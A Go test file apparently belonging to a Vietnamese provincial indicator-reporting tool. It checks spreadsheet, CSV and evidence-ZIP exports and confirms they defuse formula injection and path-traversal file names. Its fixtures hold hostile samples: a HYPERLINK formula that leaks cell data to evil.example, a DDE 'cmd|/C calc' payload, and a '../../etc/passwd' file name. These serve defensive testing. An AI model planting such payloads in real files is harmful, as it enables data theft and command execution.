package export

import (
	"archive/zip"
	"bytes"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"errors"
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"

	"github.com/dieuphoi/dieuphoi/domain"
)

var update = flag.Bool("update", false, "rewrite testdata/*.golden")

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name+".golden")
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test ./export -update)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from golden file (go test ./export -update to accept):\n%s", name, firstDiff(string(want), string(got)))
	}
}

func firstDiff(want, got string) string {
	w, g := strings.Split(want, "\n"), strings.Split(got, "\n")
	for i := 0; i < max(len(w), len(g)); i++ {
		var a, b string
		if i < len(w) {
			a = w[i]
		}
		if i < len(g) {
			b = g[i]
		}
		if a != b {
			return fmt.Sprintf("line %d:\nwant %q\ngot  %q", i+1, a, b)
		}
	}
	return "(same lines)"
}

const injection = `=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`

// blobs is a content-addressed store for the ZIP test.
type blobs map[string][]byte

func (b blobs) put(content string) string {
	sum := sha256.Sum256([]byte(content))
	key := hex.EncodeToString(sum[:])
	b[key] = []byte(content)
	return key
}

func (b blobs) open(sum string) (io.ReadCloser, error) {
	data, ok := b[sum]
	if !ok {
		return nil, fmt.Errorf("blob %s: %w", sum[:8], domain.ErrNotFound)
	}
	return io.NopCloser(bytes.NewReader(data)), nil
}

func fixture(t *testing.T) (Data, blobs) {
	t.Helper()
	loc, err := time.LoadLocation("Asia/Ho_Chi_Minh")
	if err != nil {
		t.Fatal(err)
	}
	at := func(y int, m time.Month, d, h, mi int) time.Time { return time.Date(y, m, d, h, mi, 0, 0, loc) }
	passed := at(2024, 8, 30, 17, 0)
	future := at(2024, 9, 15, 17, 0)
	store := blobs{}

	p2, p3 := "2 Vốn con người và nghiên cứu & phát triển", "6 Sản phẩm tri thức, sáng tạo và công nghệ"
	inds := []domain.Indicator{
		{Code: "1.1.1", Pillar: "1 Thể chế", NameVI: "Ban hành và tổ chức thực hiện chính sách thúc đẩy KH,CN&ĐMST", Unit: "số văn bản", Type: domain.TypeInteger, RefYear: 2023, Evidence: true},
		{Code: "P1.05", Pillar: "1 Thể chế", NameVI: "Có Đề án chuyển đổi số cấp tỉnh được phê duyệt", Type: domain.TypeYesNo, RefYear: 2023},
		{Code: "2.2.1", Pillar: p2, NameVI: "Nhân lực nghiên cứu và phát triển toàn thời gian trên vạn dân", Unit: "người/vạn dân", Type: domain.TypeDecimal, RefYear: 2023},
		{Code: "2.2.2", Pillar: p2, NameVI: "Chi ngân sách địa phương cho KH&CN trên GRDP", Unit: "%", Type: domain.TypePercent, RefYear: 2023},
		{Code: "P6.10", Pillar: p3, NameVI: "Ngày công bố kết quả đánh giá sản phẩm OCOP", Type: domain.TypeDate, RefYear: 2024},
		{Code: "P6.11", Pillar: p3, NameVI: "Tên sản phẩm OCOP 5 sao tiêu biểu", Type: domain.TypeText, RefYear: 2024},
	}
	ags := []domain.Agency{
		{Code: "SKHCN", NameVI: "Sở Khoa học và Công nghệ"},
		{Code: "STC", NameVI: "Sở Tài chính"},
		{Code: "CTK", NameVI: "Cục Thống kê"},
	}
	people := map[string]domain.Person{
		"p1": {ID: "p1", FullName: "Nguyễn Thị Hương", AgencyCode: "SKHCN"},
		"p2": {ID: "p2", FullName: "Trần Văn Đức", AgencyCode: "STC"},
		"p3": {ID: "p3", FullName: "Lê Minh Anh", AgencyCode: "CTK"},
		"s1": {ID: "s1", FullName: "Phạm Quốc Bảo", AgencyCode: "SKHCN"},
	}
	asg := func(ind, ag, focal string, dl time.Time) domain.Assignment {
		return domain.Assignment{Indicator: ind, Agency: ag, Focal: []string{focal}, Deadline: dl}
	}
	assignments := []domain.Assignment{
		asg("1.1.1", "SKHCN", "p1", passed),
		asg("1.1.1", "STC", "p2", passed),
		asg("P1.05", "SKHCN", "p1", passed),
		asg("2.2.1", "SKHCN", "p1", passed),
		asg("2.2.2", "STC", "p2", passed),
		asg("2.2.2", "CTK", "p3", passed),
		asg("P6.10", "CTK", "p3", future),
		asg("P6.11", "CTK", "p3", future),
		asg("P6.11", "SKHCN", "p1", future),
	}
	file := func(name, content string) domain.Evidence {
		return domain.Evidence{SHA256: store.put(content), Name: name, MIME: "application/pdf", Size: int64(len(content))}
	}
	submissions := []domain.Submission{
		{
			Indicator: "1.1.1", Agency: "SKHCN", Status: domain.StatusApproved, Value: "12",
			DocNumber: "106/KH-UBND", DocDate: at(2024, 6, 18, 0, 0),
			Evidence: []domain.Evidence{
				file("Kế hoạch 106/KH-UBND.pdf", "%PDF-1.4 kế hoạch"),
				file("../../etc/passwd", "root:x:0:0"),
				file(`a\b.pdf`, "%PDF-1.4 a-b"),
				{Name: "Cổng thông tin", Link: "https://skhcn.hungyen.gov.vn/ke-hoach-106"},
			},
			By: "p1", At: at(2024, 8, 20, 9, 15), SubmittedAt: at(2024, 8, 20, 9, 15),
			ReviewedBy: "s1", ReviewedAt: at(2024, 8, 22, 8, 0), Version: 4,
		},
		{
			Indicator: "P1.05", Agency: "SKHCN", Status: domain.StatusSubmitted, Value: "yes",
			By: "p1", At: at(2024, 8, 29, 16, 45), SubmittedAt: at(2024, 8, 29, 16, 45), Version: 2,
		},
		{
			Indicator: "2.2.1", Agency: "SKHCN", Status: domain.StatusDraft, Value: "1234.5",
			Note: "- Số liệu sơ bộ, chờ Cục Thống kê xác nhận", By: "p1", At: at(2024, 8, 28, 11, 0), Version: 1,
		},
		{
			Indicator: "2.2.2", Agency: "STC", Status: domain.StatusReturned, Value: "0.62",
			By: "p2", At: at(2024, 8, 25, 14, 0), SubmittedAt: at(2024, 8, 25, 14, 0),
			ReviewNote: "Thiếu văn bản minh chứng; đề nghị bổ sung", ReviewedBy: "s1", Version: 3,
		},
		{
			Indicator: "2.2.2", Agency: "CTK", Status: domain.StatusApproved, Value: "12.5",
			DocNumber: "45/CTK-TKXH", DocDate: at(2024, 8, 1, 0, 0),
			Evidence: []domain.Evidence{
				file("Báo cáo.pdf", "%PDF-1.4 báo cáo 1"),
				file("Báo cáo.pdf", "%PDF-1.4 báo cáo 2"),
			},
			By: "p3", At: at(2024, 8, 27, 10, 30), SubmittedAt: at(2024, 8, 27, 10, 30), Version: 2,
		},
		{
			Indicator: "P6.10", Agency: "CTK", Status: domain.StatusSubmitted, Value: "2024-08-02",
			Evidence: []domain.Evidence{{SHA256: strings.Repeat("ab", 32), Name: "mất.pdf", Size: 10}},
			By:       "p3", At: at(2024, 9, 1, 8, 0), SubmittedAt: at(2024, 9, 1, 8, 0), Version: 1,
		},
		{
			Indicator: "P6.11", Agency: "CTK", Status: domain.StatusSubmitted, Value: injection,
			Note: "@SUM(1+1)", By: "p3", At: at(2024, 9, 1, 9, 0), SubmittedAt: at(2024, 9, 1, 9, 0), Version: 1,
		},
	}
	return Data{
		Title:       "Chỉ số đổi mới sáng tạo cấp địa phương (PII) năm 2024 — tỉnh Hưng Yên",
		Indicators:  inds,
		Agencies:    ags,
		People:      people,
		Assignments: assignments,
		Submissions: submissions,
		GeneratedAt: at(2024, 9, 2, 10, 0),
		Location:    loc,
	}, store
}

// dump renders every sheet's cells as text: "A1 = shown" with the raw value
// added when it differs, and the formula when there is one.
func dump(t *testing.T, f *excelize.File) []byte {
	t.Helper()
	var b strings.Builder
	for _, sh := range f.GetSheetList() {
		fmt.Fprintf(&b, "=== %s\n", sh)
		rows, err := f.GetRows(sh)
		if err != nil {
			t.Fatal(err)
		}
		raws, err := f.GetRows(sh, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		for r, cells := range rows {
			for c, v := range cells {
				if v == "" {
					continue
				}
				ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
				fmt.Fprintf(&b, "%s = %q", ref, v)
				if raw := raws[r][c]; raw != v {
					fmt.Fprintf(&b, " [raw %s]", raw)
				}
				if fm, _ := f.GetCellFormula(sh, ref); fm != "" {
					fmt.Fprintf(&b, " {formula %s}", fm)
				}
				b.WriteByte('\n')
			}
		}
	}
	return []byte(b.String())
}

func openXLSX(t *testing.T, data []byte) *excelize.File {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

// findRow returns the 1-based row of sheet whose column A is code and whose
// "Đơn vị cung cấp" (D) is agency.
func findRow(t *testing.T, f *excelize.File, sheet, code, agency string) int {
	t.Helper()
	rows, err := f.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	for i, r := range rows {
		if len(r) > 3 && r[0] == code && r[3] == agency {
			return i + 1
		}
	}
	t.Fatalf("%s: no row for %s / %s", sheet, code, agency)
	return 0
}

func cellFormat(t *testing.T, f *excelize.File, sheet, ref string) string {
	t.Helper()
	id, err := f.GetCellStyle(sheet, ref)
	if err != nil {
		t.Fatal(err)
	}
	st, err := f.GetStyle(id)
	if err != nil {
		t.Fatal(err)
	}
	if st.CustomNumFmt == nil {
		return fmt.Sprintf("builtin %d", st.NumFmt)
	}
	return *st.CustomNumFmt
}

func mustValue(t *testing.T, f *excelize.File, sheet, ref string, opts ...excelize.Options) string {
	t.Helper()
	v, err := f.GetCellValue(sheet, ref, opts...)
	if err != nil {
		t.Fatal(err)
	}
	return v
}

func TestWriteXLSX(t *testing.T) {
	d, _ := fixture(t)
	d.Flags = map[[2]string][]string{{"2.2.2", "CTK"}: {"value_not_found", "big_change"}}
	var buf bytes.Buffer
	if err := WriteXLSX(&buf, d); err != nil {
		t.Fatal(err)
	}
	f := openXLSX(t, buf.Bytes())

	wantSheets := []string{"Tổng hợp", "Tất cả", "1 Thể chế", "2 Vốn con người và nghiên cứu…", "6 Sản phẩm tri thức, sáng tạo…"}
	if got := f.GetSheetList(); !slices.Equal(got, wantSheets) {
		t.Fatalf("sheets = %q, want %q", got, wantSheets)
	}
	for _, sh := range wantSheets {
		if n := utf8.RuneCountInString(sh); n > 31 || strings.ContainsAny(sh, `[]:*?/\`) {
			t.Errorf("bad sheet name %q (%d chars)", sh, n)
		}
	}

	props, err := f.GetDocProps()
	if err != nil {
		t.Fatal(err)
	}
	if props.Title != d.Title || props.Creator != "dieuphoi" {
		t.Errorf("doc props: title %q creator %q", props.Title, props.Creator)
	}

	const all = "Tất cả"
	rows, err := f.GetRows(all)
	if err != nil {
		t.Fatal(err)
	}
	wantHeaders := []string{"Mã chỉ số", "Tên chỉ số", "Trụ cột", "Đơn vị cung cấp", "Giá trị", "Đơn vị tính",
		"Năm số liệu", "Trạng thái", "Số minh chứng", "Số/ký hiệu văn bản", "Ngày ban hành", "Người gửi",
		"Thời điểm gửi", "Hạn nộp", "Ghi chú", "Ý kiến thẩm định", "Quá hạn", "Cảnh báo"}
	// The header block: title, campaign, time of export; the table under it.
	if len(rows) < dataTop || rows[0][0] != "BÁO CÁO SỐ LIỆU CHỈ SỐ" || rows[1][0] != "Đợt thu thập: "+d.Title ||
		mustValue(t, f, all, "B3") != "02/09/2024 10:00" {
		t.Errorf("header block = %q", rows[:min(len(rows), dataTop)])
	}
	if !slices.Equal(rows[dataTop-1], wantHeaders) {
		t.Errorf("headers = %q", rows[dataTop-1])
	}
	if len(rows) != dataTop+len(d.Assignments) {
		t.Errorf("%d data rows, want %d", len(rows)-dataTop, len(d.Assignments))
	}
	// The review flags in their own column.
	if v := mustValue(t, f, all, fmt.Sprintf("R%d", findRow(t, f, all, "2.2.2", "Cục Thống kê"))); v != "không thấy giá trị trong minh chứng; thay đổi lớn so với năm trước" {
		t.Errorf("flags column %q", v)
	}
	if v := mustValue(t, f, all, fmt.Sprintf("R%d", findRow(t, f, all, "2.2.2", "Sở Tài chính"))); v != "" {
		t.Errorf("unflagged row's flags %q", v)
	}
	// A document's date is a whole day: no hidden time.
	docRef := fmt.Sprintf("K%d", findRow(t, f, all, "1.1.1", "Sở Khoa học và Công nghệ"))
	if raw := mustValue(t, f, all, docRef, excelize.Options{RawCellValue: true}); strings.Contains(raw, ".") || raw == "" {
		t.Errorf("document date raw %q has a time of day", raw)
	}

	// Numbers are numbers, with their formats.
	numbers := []struct {
		code, agency, raw, format, shown string
	}{
		{"1.1.1", "Sở Khoa học và Công nghệ", "12", "#,##0", "12"},
		{"2.2.1", "Sở Khoa học và Công nghệ", "1234.5", "#,##0.0", "1,234.5"},
		{"2.2.2", "Cục Thống kê", "0.125", "#,##0.0%", "12.5%"},
		{"2.2.2", "Sở Tài chính", "0.0062", "#,##0.00%", "0.62%"},
	}
	for _, n := range numbers {
		ref := fmt.Sprintf("E%d", findRow(t, f, all, n.code, n.agency))
		typ, err := f.GetCellType(all, ref)
		if err != nil {
			t.Fatal(err)
		}
		if typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber {
			t.Errorf("%s %s: cell type %v, want number", n.code, n.agency, typ)
		}
		if raw := mustValue(t, f, all, ref, excelize.Options{RawCellValue: true}); raw != n.raw {
			t.Errorf("%s %s: raw %q, want %q", n.code, n.agency, raw, n.raw)
		}
		if fm := cellFormat(t, f, all, ref); fm != n.format {
			t.Errorf("%s %s: format %q, want %q", n.code, n.agency, fm, n.format)
		}
		if shown := mustValue(t, f, all, ref); shown != n.shown {
			t.Errorf("%s %s: shown %q, want %q", n.code, n.agency, shown, n.shown)
		}
	}
	// The year is a number without grouping (never "2.023").
	if fm := cellFormat(t, f, all, fmt.Sprintf("G%d", findRow(t, f, all, "1.1.1", "Sở Khoa học và Công nghệ"))); fm != "0" {
		t.Errorf("year format %q", fm)
	}

	// The date value is a real date.
	r := findRow(t, f, all, "P6.10", "Cục Thống kê")
	ref := fmt.Sprintf("E%d", r)
	raw := mustValue(t, f, all, ref, excelize.Options{RawCellValue: true})
	var serial float64
	if _, err := fmt.Sscan(raw, &serial); err != nil {
		t.Fatalf("date raw %q: %v", raw, err)
	}
	if got, _ := excelize.ExcelDateToTime(serial, false); !got.Equal(time.Date(2024, 8, 2, 0, 0, 0, 0, time.UTC)) {
		t.Errorf("date cell = %v", got)
	}
	if fm := cellFormat(t, f, all, ref); fm != "dd/mm/yyyy" {
		t.Errorf("date format %q", fm)
	}
	if v := mustValue(t, f, all, ref); v != "02/08/2024" {
		t.Errorf("date shown %q", v)
	}
	// The deadline keeps its local time.
	if v := mustValue(t, f, all, fmt.Sprintf("N%d", r)); v != "15/09/2024 17:00" {
		t.Errorf("deadline shown %q", v)
	}

	// Yes/no, statuses, empty rows, overdue.
	if v := mustValue(t, f, all, fmt.Sprintf("E%d", findRow(t, f, all, "P1.05", "Sở Khoa học và Công nghệ"))); v != "Có" {
		t.Errorf("yes/no shown %q", v)
	}
	statusOf := map[[2]string][2]string{ // status, overdue
		{"1.1.1", "Sở Khoa học và Công nghệ"}: {"Đã duyệt", ""},
		{"1.1.1", "Sở Tài chính"}:             {"Chưa nhập", "Có"},
		{"P1.05", "Sở Khoa học và Công nghệ"}: {"Đã gửi", ""},
		{"2.2.1", "Sở Khoa học và Công nghệ"}: {"Nháp", "Có"},
		{"2.2.2", "Sở Tài chính"}:             {"Bị trả lại", "Có"},
		{"P6.11", "Sở Khoa học và Công nghệ"}: {"Chưa nhập", ""},
	}
	for k, want := range statusOf {
		r := findRow(t, f, all, k[0], k[1])
		if got := mustValue(t, f, all, fmt.Sprintf("H%d", r)); got != want[0] {
			t.Errorf("%v: status %q, want %q", k, got, want[0])
		}
		if got := mustValue(t, f, all, fmt.Sprintf("Q%d", r)); got != want[1] {
			t.Errorf("%v: overdue %q, want %q", k, got, want[1])
		}
	}
	empty := findRow(t, f, all, "1.1.1", "Sở Tài chính")
	if v := mustValue(t, f, all, fmt.Sprintf("E%d", empty)); v != "" {
		t.Errorf("not-entered value %q, want empty", v)
	}

	// Formula injection stays text.
	r = findRow(t, f, all, "P6.11", "Cục Thống kê")
	for _, col := range []string{"E", "O"} {
		ref := fmt.Sprintf("%s%d", col, r)
		if fm, err := f.GetCellFormula(all, ref); err != nil || fm != "" {
			t.Errorf("%s: formula %q (%v)", ref, fm, err)
		}
		typ, _ := f.GetCellType(all, ref)
		if typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
			t.Errorf("%s: type %v, want string", ref, typ)
		}
		if v := mustValue(t, f, all, ref); !strings.HasPrefix(v, "'") {
			t.Errorf("%s: %q not escaped", ref, v)
		}
	}
	if v := mustValue(t, f, all, fmt.Sprintf("E%d", r)); v != "'"+injection {
		t.Errorf("injection cell %q", v)
	}

	// Summary counts.
	sum, err := f.GetRows("Tổng hợp")
	if err != nil {
		t.Fatal(err)
	}
	find := func(label string) []string {
		for _, r := range sum {
			if len(r) > 0 && r[0] == label {
				return r
			}
		}
		t.Fatalf("summary: no row %q", label)
		return nil
	}
	if got := sum[5]; !slices.Equal(got, []string{"Phạm vi", "Tổng số", "Chưa nhập", "Nháp", "Đã gửi", "Bị trả lại", "Đã duyệt", "Quá hạn", "% hoàn thành", "% đã duyệt"}) {
		t.Errorf("summary header %q", got)
	}
	checks := map[string][]string{
		//                          total empty draft sent ret appr overdue done approved
		"Tất cả đơn vị":            {"9", "2", "1", "3", "1", "2", "3", "55.6%", "22.2%"},
		"Sở Khoa học và Công nghệ": {"4", "1", "1", "1", "0", "1", "1", "50.0%", "25.0%"},
		"Sở Tài chính":             {"2", "1", "0", "0", "1", "0", "2", "0.0%", "0.0%"},
		"Cục Thống kê":             {"3", "0", "0", "2", "0", "1", "0", "100.0%", "33.3%"},
		"1 Thể chế":                {"3", "1", "0", "1", "0", "1", "1", "66.7%", "33.3%"},
		"2 Vốn con người và nghiên cứu & phát triển": {"3", "0", "1", "0", "1", "1", "2", "33.3%", "33.3%"},
		"6 Sản phẩm tri thức, sáng tạo và công nghệ": {"3", "1", "0", "2", "0", "0", "0", "66.7%", "0.0%"},
	}
	for label, want := range checks {
		if got := find(label)[1:]; !slices.Equal(got, want) {
			t.Errorf("summary %q = %q, want %q", label, got, want)
		}
	}
	if v := mustValue(t, f, "Tổng hợp", "B2"); v != "02/09/2024 10:00" {
		t.Errorf("generated at %q", v)
	}

	// Pillar sheets hold their pillar's rows only.
	p2, _ := f.GetRows("2 Vốn con người và nghiên cứu…")
	if len(p2) != dataTop+3 {
		t.Fatalf("pillar 2 sheet has %d rows, want the header block, the header and 3", len(p2))
	}
	for _, r := range p2[dataTop:] {
		if !strings.HasPrefix(r[0], "2.") {
			t.Errorf("pillar 2 sheet has row %q", r[0])
		}
	}

	golden(t, "xlsx", dump(t, f))
}

func TestWriteCSV(t *testing.T) {
	d, _ := fixture(t)
	var buf bytes.Buffer
	if err := WriteCSV(&buf, d); err != nil {
		t.Fatal(err)
	}
	data := buf.Bytes()
	if !bytes.HasPrefix(data, []byte("\xEF\xBB\xBF")) {
		t.Fatal("no UTF-8 BOM")
	}
	if !bytes.HasSuffix(data, []byte("\r\n")) || bytes.Count(data, []byte("\n")) != bytes.Count(data, []byte("\r\n")) {
		t.Error("line ends are not all CRLF")
	}
	recs, err := csv.NewReader(bytes.NewReader(data[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 1+len(d.Assignments) {
		t.Fatalf("%d records", len(recs))
	}
	head := recs[0]
	if !slices.Equal(head[4:6], []string{"Giá trị", "Giá trị (hiển thị)"}) || len(head) != 19 || head[18] != "Cảnh báo" {
		t.Errorf("header %q", head)
	}
	byKey := map[string][]string{}
	for _, r := range recs[1:] {
		byKey[r[0]+"|"+r[3]] = r
	}
	for key, want := range map[string][2]string{
		"2.2.1|Sở Khoa học và Công nghệ": {"1234.5", "1.234,5"},
		"2.2.2|Cục Thống kê":             {"12.5", "12,5%"},
		"P6.10|Cục Thống kê":             {"2024-08-02", "02/08/2024"},
		"P1.05|Sở Khoa học và Công nghệ": {"yes", "Có"},
		"P6.11|Cục Thống kê":             {"'" + injection, "'" + injection},
		"1.1.1|Sở Tài chính":             {"", ""},
	} {
		if got := byKey[key][4:6]; !slices.Equal(got, want[:]) {
			t.Errorf("%s value = %q, want %q", key, got, want)
		}
	}
	if note := byKey["P6.11|Cục Thống kê"][15]; note != "'@SUM(1+1)" {
		t.Errorf("note not escaped: %q", note)
	}
	if note := byKey["2.2.1|Sở Khoa học và Công nghệ"][15]; !strings.HasPrefix(note, "'-") {
		t.Errorf("note not escaped: %q", note)
	}
	golden(t, "csv", data)
}

func TestWriteEvidenceZIP(t *testing.T) {
	d, store := fixture(t)
	var buf bytes.Buffer
	if err := WriteEvidenceZIP(&buf, d, store.open); err != nil {
		t.Fatal(err)
	}
	zr, err := zip.NewReader(bytes.NewReader(buf.Bytes()), int64(buf.Len()))
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	seen := map[string]bool{}
	var manifest []byte
	for _, zf := range zr.File {
		names = append(names, zf.Name)
		if seen[strings.ToLower(zf.Name)] {
			t.Errorf("duplicate name %q", zf.Name)
		}
		seen[strings.ToLower(zf.Name)] = true
		if !utf8.ValidString(zf.Name) || strings.ContainsAny(zf.Name, `\:*?"<>|`) || strings.HasPrefix(zf.Name, "/") {
			t.Errorf("unsafe name %q", zf.Name)
		}
		for _, seg := range strings.Split(zf.Name, "/") {
			if seg == "" || seg == "." || seg == ".." || strings.HasSuffix(seg, ".") || strings.HasSuffix(seg, " ") {
				t.Errorf("unsafe segment %q in %q", seg, zf.Name)
			}
		}
		for _, r := range zf.Name {
			if unicode.IsControl(r) {
				t.Errorf("control character in %q", zf.Name)
			}
		}
		rc, err := zf.Open()
		if err != nil {
			t.Fatal(err)
		}
		data, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			t.Fatal(err)
		}
		if zf.Name == ManifestName {
			manifest = data
			continue
		}
		sum := sha256.Sum256(data)
		if _, ok := store[hex.EncodeToString(sum[:])]; !ok {
			t.Errorf("%s: bytes match no stored file", zf.Name)
		}
	}
	wantNames := []string{
		"1.1.1/SKHCN/1-Kế hoạch 106_KH-UBND.pdf",
		"1.1.1/SKHCN/2-_.._etc_passwd",
		"1.1.1/SKHCN/3-a_b.pdf",
		"2.2.2/CTK/1-Báo cáo.pdf",
		"2.2.2/CTK/2-Báo cáo.pdf",
		ManifestName,
	}
	if !slices.Equal(names, wantNames) {
		t.Errorf("names = %q\nwant    %q", names, wantNames)
	}
	if !bytes.HasPrefix(manifest, []byte("\xEF\xBB\xBF")) {
		t.Fatal("manifest has no BOM")
	}
	recs, err := csv.NewReader(bytes.NewReader(manifest[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 1+7 {
		t.Errorf("manifest has %d lines, want header + 7", len(recs))
	}
	var link, missing bool
	for _, r := range recs[1:] {
		if r[6] == "Liên kết" && r[11] == "https://skhcn.hungyen.gov.vn/ke-hoach-106" && r[7] == "" {
			link = true
		}
		if r[8] == "mất.pdf" && strings.HasPrefix(r[12], "Không đọc được tệp") && r[7] == "" {
			missing = true
		}
		if r[7] != "" && (len(r[9]) != 64 || r[10] == "") {
			t.Errorf("manifest line without sha/size: %q", r)
		}
	}
	if !link || !missing {
		t.Errorf("manifest: link listed %v, missing file noted %v", link, missing)
	}
	golden(t, "zip", []byte(strings.Join(names, "\n")+"\n--- "+ManifestName+"\n"+string(manifest)))
}

func TestWriteEvidenceZIPCopyError(t *testing.T) {
	d, _ := fixture(t)
	failing := func(string) (io.ReadCloser, error) {
		return io.NopCloser(io.MultiReader(strings.NewReader("half"), errReader{})), nil
	}
	if err := WriteEvidenceZIP(io.Discard, d, failing); err == nil {
		t.Error("a read error while copying must fail the export")
	}
}

type errReader struct{}

func (errReader) Read([]byte) (int, error) { return 0, errors.New("disk gone") }

func TestWriteAgencyXLSX(t *testing.T) {
	d, _ := fixture(t)
	var buf bytes.Buffer
	if err := WriteAgencyXLSX(&buf, d, "CTK"); err != nil {
		t.Fatal(err)
	}
	f := openXLSX(t, buf.Bytes())
	sheets := f.GetSheetList()
	if len(sheets) != 1 {
		t.Fatalf("sheets %q", sheets)
	}
	rows, err := f.GetRows(sheets[0])
	if err != nil {
		t.Fatal(err)
	}
	text := dump(t, f)
	for _, want := range []string{"Đơn vị cung cấp: Cục Thống kê", "Người lập biểu", "Thủ trưởng đơn vị",
		"……………, ngày …… tháng …… năm 2024", "1. Báo cáo.pdf\n2. Báo cáo.pdf"} {
		if !bytes.Contains(text, []byte(fmt.Sprintf("%q", want)[1:len(fmt.Sprintf("%q", want))-1])) {
			t.Errorf("agency workbook lacks %q", want)
		}
	}
	var codes []string
	header := -1
	for i, r := range rows {
		if len(r) > 1 && r[0] == "STT" {
			header = i
			continue
		}
		if header >= 0 && len(r) > 1 && r[1] != "" {
			codes = append(codes, r[1])
		}
	}
	if !slices.Equal(codes, []string{"2.2.2", "P6.10", "P6.11"}) {
		t.Errorf("agency rows %q", codes)
	}
	if bytes.Contains(text, []byte("Sở Tài chính")) || bytes.Contains(text, []byte("Nguyễn Thị Hương")) {
		t.Error("another agency's data leaked into the workbook")
	}
	golden(t, "agency_ctk", text)

	if err := WriteAgencyXLSX(io.Discard, d, "NOPE"); !errors.Is(err, domain.ErrNotFound) {
		t.Errorf("unknown agency: %v", err)
	}
	// An agency with no assignments still gets an (empty) form.
	d.Agencies = append(d.Agencies, domain.Agency{Code: "SYT", NameVI: "Sở Y tế"})
	if err := WriteAgencyXLSX(io.Discard, d, "SYT"); err != nil {
		t.Errorf("agency without rows: %v", err)
	}
}

func TestFormatNumberVI(t *testing.T) {
	for in, want := range map[string]string{
		"0": "0", "12": "12", "100": "100", "1000": "1.000", "1234.5": "1.234,5",
		"-1234567.25": "-1.234.567,25", "0.62": "0,62", "123456": "123.456", "abc": "abc",
	} {
		if got := FormatNumberVI(in); got != want {
			t.Errorf("FormatNumberVI(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestGuard(t *testing.T) {
	for in, want := range map[string]string{
		"=1+1": "'=1+1", "+84912": "'+84912", "-2": "'-2", "@x": "'@x", "\tx": "'\tx", "\rx": "'\rx",
		"Bình thường": "Bình thường", "": "",
	} {
		if got := guard(in); got != want {
			t.Errorf("guard(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestSafeNames(t *testing.T) {
	for in, want := range map[string]string{
		"../../etc/passwd":          "_.._etc_passwd",
		`a\b.pdf`:                   "a_b.pdf",
		"..":                        "_",
		"  ":                        "_",
		"CON":                       "_CON",
		"nul.txt":                   "_nul.txt",
		"Báo\x00 cáo\u202e.pdf":     "Báo cáo.pdf",
		"Vie\u0323\u0302t Nam.docx": "Việt Nam.docx", // NFD in, NFC out
		"x:y*?.pdf. ":               "x_y__.pdf",
	} {
		if got := safeSegment(in); got != want {
			t.Errorf("safeSegment(%q) = %q, want %q", in, got, want)
		}
	}
	long := strings.Repeat("Tài liệu minh chứng ", 20) + ".pdf"
	if got := safeFileName(long); len(got) > maxNameBytes || !strings.HasSuffix(got, ".pdf") || !utf8.ValidString(got) {
		t.Errorf("long name → %q (%d bytes)", got, len(got))
	}
	used := map[string]bool{}
	got := []string{unique("a/1-x.pdf", used), unique("a/1-x.pdf", used), unique("A/1-X.PDF", used), unique("a/b", used), unique("a/b", used)}
	want := []string{"a/1-x.pdf", "a/1-x (2).pdf", "A/1-X (3).PDF", "a/b", "a/b (2)"}
	if !slices.Equal(got, want) {
		t.Errorf("unique: %q, want %q", got, want)
	}
}

func TestSheetName(t *testing.T) {
	used := map[string]bool{"tổng hợp": true, "tất cả": true}
	for _, c := range []struct{ in, want string }{
		{"1 Thể chế", "1 Thể chế"},
		{"2 Vốn con người và nghiên cứu & phát triển", "2 Vốn con người và nghiên cứu…"},
		{"6 Sản phẩm tri thức, sáng tạo và công nghệ", "6 Sản phẩm tri thức, sáng tạo…"},
		{"a/b:c[d]*?e\\f", "a b c d e f"},
		{"1 thể chế", "1 thể chế (2)"},
		{"2 Vốn con người và nghiên cứu & phát triển bền vững", "2 Vốn con người và nghiên… (2)"},
		{"Tổng hợp", "Tổng hợp (2)"},
		{"'quoted'", "quoted"},
		{"", "Trụ cột"},
	} {
		got := sheetName(c.in, used)
		if got != c.want {
			t.Errorf("sheetName(%q) = %q, want %q", c.in, got, c.want)
		}
		if utf8.RuneCountInString(got) > 31 {
			t.Errorf("sheetName(%q) = %q is too long", c.in, got)
		}
	}
}

// The formula guard must see the text as written: control characters in
// front of "=" are stripped, and what remains must still be defused.
func TestCSVControlCharacterFormula(t *testing.T) {
	d, _ := fixture(t)
	for i := range d.Submissions {
		if d.Submissions[i].Indicator == "2.2.1" {
			d.Submissions[i].DocNumber = "\x01=HYPERLINK(\"http://evil.example\",\"x\")"
			d.Submissions[i].Note = "\x02\x03+cmd|' /C calc'!A0"
		}
	}
	var buf bytes.Buffer
	if err := WriteCSV(&buf, d); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(buf.Bytes()[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, r := range recs[1:] {
		if r[0] != "2.2.1" {
			continue
		}
		found = true
		for label, cell := range map[string]string{"số/ký hiệu": r[10], "ghi chú": r[15]} {
			if cell == "" || strings.ContainsAny(cell[:1], "=+-@\t\r") {
				t.Errorf("%s comes out as a formula: %q", label, cell)
			}
			if !strings.HasPrefix(cell, "'") {
				t.Errorf("%s not guarded: %q", label, cell)
			}
		}
	}
	if !found {
		t.Fatal("row 2.2.1 missing")
	}
}

// File names sent from Telegram or Zalo reach the manifest made safe: no
